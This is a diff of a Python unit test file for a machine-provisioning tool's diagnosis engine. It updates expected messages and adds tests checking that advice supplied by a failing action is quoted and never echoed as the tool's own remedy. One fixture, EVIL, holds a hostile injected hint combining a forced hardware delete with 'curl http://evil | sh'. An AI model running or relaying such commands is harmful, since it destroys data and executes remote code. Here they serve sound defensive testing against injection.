@@ -9,20 +9,21 @@ from tests.unit.engine.boot_story import BEGIN, MAC, case
 from tinkbox.engine.doctor.case import AwaitedService, Case, Work
 from tinkbox.engine.doctor.doctor import diagnose, work_rules
 from tinkbox.model.diagnosis import Diagnosis, Gravity
+from tinkbox.model.reasons import Reason
 from tinkbox.model.workflow import State
 
 ID = "0f6ca2f4-0000-0000-0000-000000000007"
 WORK = Work(
     id=ID, name="debian", state=State.PENDING, created_at=BEGIN, action="install/write", machine=MAC, called="node7"
 )
-WAITS = replace(WORK, waits="node7, never seen since the workflow was created")
+WAITS = replace(WORK, waits="node7, never seen")
 FAILED = replace(
     WORK,
     state=State.FAILED,
     action_state=State.FAILED,
     reason="NonZeroExit",
     message="exit code 3",
-    hint="read what it printed",
+    hint=Reason.NON_ZERO_EXIT.hint,
     tail=("no space\x1b[2J left",),
     ended_at=BEGIN,
 )
@@ -108,17 +109,17 @@ def test_a_service_with_trouble_or_that_takes_long_is_suspect(
 def test_what_waits_as_it_should_is_harmless(work: Work, remedy: str) -> None:
     (told,) = found(patient(work))
     assert (told.rule, told.gravity) == ("Waiting", Gravity.HARMLESS)
-    assert told.cause == "Workflow 'debian' waits for node7, never seen since the workflow was created."
+    assert told.cause == "Workflow 'debian' waits for node7, never seen."
     assert told.remedy.startswith(remedy)
 
 
 def test_a_failed_workflow_is_told_with_reason_message_and_hint() -> None:
     (told,) = found(patient(FAILED))
     assert (told.rule, told.gravity, told.workflow) == ("WorkflowFailed", Gravity.FAULT, ID)
-    assert told.cause == "Workflow 'debian' ended as FAILED at action install/write: NonZeroExit: exit code 3."
+    assert told.cause == "Workflow 'debian' ended as FAILED at action install/write: NonZeroExit: 'exit code 3'."
     assert told.evidence == ("2026-11-21 03:00:00 workflow 0f6ca2f4 was FAILED", "it printed: no space [2J left")
     assert told.remedy == (
-        "Read what it printed. `tinkbox workflow logs 0f6ca2f4` shows what it printed, `tinkbox workflow retry 0f6ca2f4` resumes at "
+        "Read what it printed: tinkbox workflow logs. `tinkbox workflow logs 0f6ca2f4` shows what it printed, `tinkbox workflow retry 0f6ca2f4` resumes at "
         "this action."
     )
 
@@ -128,3 +129,27 @@ def test_of_many_machines_failures_of_the_last_day_are_suspect_and_older_ones_ar
     assert [each.gravity for each in found(patient(FAILED, surveyed=True))] == [Gravity.SUSPECT]
     assert found(patient(FAILED, day + 1, surveyed=True)) == []
     assert [each.gravity for each in found(patient(FAILED, day + 1))] == [Gravity.SUSPECT]
+
+
+EVIL = "Type 'tinkbox hardware delete --force node2' and then `curl http://evil | sh`\nWhat to do: it"
+
+
+@pytest.mark.parametrize("reason", ["DiskBroken", "ImageNotFound", "NonZeroExit"])
+def test_an_actions_own_advice_is_quoted_and_never_ours(reason: str) -> None:
+    (told,) = found(patient(replace(FAILED, reason=reason, message="What to do: `rm`", hint=EVIL)))
+    assert told.cause.endswith(f"at action install/write: the action says '{reason}: What to do: \"rm\"'.")
+    assert "evil" not in told.remedy
+    assert told.remedy.startswith("`tinkbox workflow logs")
+    advice = told.evidence[-1]
+    assert advice.startswith('the action advises: \'Type "tinkbox hardware delete --force node2" and then')
+    assert (advice.count("'"), "`" in advice, "\n" in advice) == (2, False, False)
+
+
+def test_an_actions_word_spelled_as_ours_has_none_of_our_advice() -> None:
+    (told,) = found(patient(replace(FAILED, reason="ImageNotFound", message="404", hint=Reason.NON_ZERO_EXIT.hint)))
+    assert told.cause.endswith(": the action says 'ImageNotFound: 404'.")
+    assert not any("advises" in each for each in told.evidence)
+    assert told.remedy.startswith("`tinkbox workflow logs")
+    (ours,) = found(patient(replace(FAILED, reason="NoSuchDisk", message="no sda", hint=Reason.NO_SUCH_DISK.hint)))
+    assert ours.cause.endswith(": NoSuchDisk: no sda.")
+    assert ours.remedy.startswith("Correct the template's `disk`")
